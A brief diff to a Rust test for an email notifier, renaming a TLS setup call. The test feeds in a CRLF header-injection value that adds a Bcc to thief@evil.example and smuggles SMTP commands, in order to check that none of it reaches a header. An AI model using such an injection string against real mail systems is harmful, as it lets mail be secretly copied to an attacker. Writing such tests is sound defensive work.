@@ -79,7 +79,7 @@ fn notice(summary: &str) -> Notice {
 
 #[tokio::test]
 async fn a_hand_over_reaches_the_team_and_nothing_of_it_gets_into_a_header() {
-    crate::tls::install_crypto();
+    crate::tls::install();
     let (port, mails) = mail_server();
     let email = Email::new(&settings(port)).unwrap().unwrap();
     let notice = notice("Asks\r\nBcc: thief@evil.example\r\n\r\nfor [ORDER_1].\r\n.\r\nQUIT");
